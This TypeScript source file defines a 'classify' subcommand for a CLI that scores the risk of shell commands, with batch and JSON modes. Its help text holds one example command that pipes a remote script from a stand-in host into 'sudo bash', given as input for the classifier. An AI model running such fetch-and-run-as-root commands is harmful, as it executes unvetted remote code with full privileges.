import { createInterface } from 'node:readline';
import { safeJson } from '@drylane/chassis/redact/visible';
import { DrylaneError } from '@drylane/proto/errors';
import type { Risk } from '@drylane/proto/risk';
import type { Command } from 'commander';
import { type Context, colours, printJson } from '../context.ts';
import { diagnose } from '../diagnostic.ts';
import { EXIT } from '../exit.ts';
import { requiredCommand } from '../shell-words.ts';
import type { Colours } from '../terminal.ts';

interface Options {
  readonly batch?: boolean;
  readonly json?: boolean;
  readonly policy?: string;
}

export function registerClassify(root: Command, context: Context, done: (status: number) => void): void {
  root
    .command('classify')
    .description('the risk of a command, from its text alone')
    .argument('[command...]', 'the command, after --')
    .option('--batch', 'read JSON Lines {id, command} on standard input, answer one line each')
    .option('--policy <file>', 'take the thresholds from this policy')
    .option('--json', 'one JSON document on standard output')
    .addHelpText('after', "\nExample:\n  drylane classify -- 'curl -s https://x.example/i.sh | sudo bash'\n")
    .action(async (words: string[], options: Options) => {
      const { classifyCommand } = await import('../embedded/tools.ts');
      const classify = await classifyCommand(options.policy);
      if (options.batch) await batch(context, classify);
      else {
        const command = requiredCommand(words);
        const risk = classify(command);
        if (options.json) printJson(context, risk);
        else
          context.stdout.write(
            render(command, risk, { paint: colours(context), width: context.stdout.columns ?? WIDTH }),
          );
      }
      done(EXIT.ok);
    });
}

async function batch(context: Context, classify: (command: string) => Risk): Promise<void> {
  let number = 0;
  for await (const text of createInterface({ input: context.stdin, crlfDelay: Number.POSITIVE_INFINITY })) {
    number += 1;
    if (text.trim() === '') continue;
    const { id, command } = parseLine(text, number);
    if (!context.stdout.write(`${safeJson({ id, ...classify(command) })}\n`))
      await new Promise((resolve) => context.stdout.once('drain', resolve));
  }
}

function parseLine(text: string, number: number): { id: unknown; command: string } {
  let row: { id?: unknown; command?: unknown };
  try {
    row = JSON.parse(text);
  } catch (cause) {
    throw new DrylaneError('bad-input', badLine(number, 'is not JSON'), { cause });
  }
  if (typeof row?.command !== 'string')
    throw new DrylaneError('bad-input', badLine(number, 'has no command'));
  return { id: row.id ?? null, command: row.command };
}

const badLine = (number: number, message: string) => ({
  field: `line ${number}`,
  message,
  mend: 'write one {"id": …, "command": "…"} a line',
});

/** Columns where there is no terminal to ask. */
const WIDTH = 120;

function render(command: string, risk: Risk, { paint, width }: { paint: Colours; width: number }): string {
  const tone = { low: paint.green, medium: paint.yellow, high: paint.red }[risk.level];
  const dimensions = Object.entries(risk.dimensions).map(([name, points]) => `${name} ${points}`);
  const state = [risk.parsed ? [] : ['does not parse'], risk.opaque ? ['opaque'] : []].flat();
  const head = `risk score:     ${tone(`${risk.score} (${risk.level})`)}   ${dimensions.join(' · ')}`;
  const rest = diagnose(command, risk.reasons, { width, paint });
  return `${[head, ...state.map((s) => paint.yellow(s))].join('   ')}\n${rest === '' ? '' : `\n${rest}`}`;
}
